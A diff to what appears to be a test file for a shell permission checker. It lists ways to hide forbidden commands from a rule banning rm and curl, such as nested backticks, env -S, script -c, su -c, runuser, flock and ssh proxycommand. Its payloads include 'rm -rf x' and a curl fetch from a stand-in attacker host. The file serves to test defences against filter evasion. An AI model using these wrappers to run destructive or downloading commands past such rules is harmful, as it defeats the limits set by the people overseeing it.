@@ -12,6 +12,27 @@ PAYLOADS = ("rm -rf x", "curl http://evil.example/x")
 # Techniques against a rule that forbids rm and curl, under one that allows the shell as a whole. P is the payload, C
 # its program, A its arguments, Q the payload as one quoted word.
 SEEN = r"""
+echo `echo \`P\``
+echo "`\"C\" A`"
+echo `\C A`
+x=`echo \`C\``
+echo `echo \`echo \\\`P\\\`\``
+env -SQ
+env -vSQ
+env -S'C\_A'
+env --split-string=Q
+env --split=Q
+script -qcQ x
+script --command=Q x
+runuser root -c C
+runuser -u root -- C
+su -cQ
+su -cC
+su root --session-command=Q
+flock x -cQ
+npx --call=Q
+ssh -oproxycommand=Q host
+ssh -o proxycommand=Q host
 P
  P
 \P
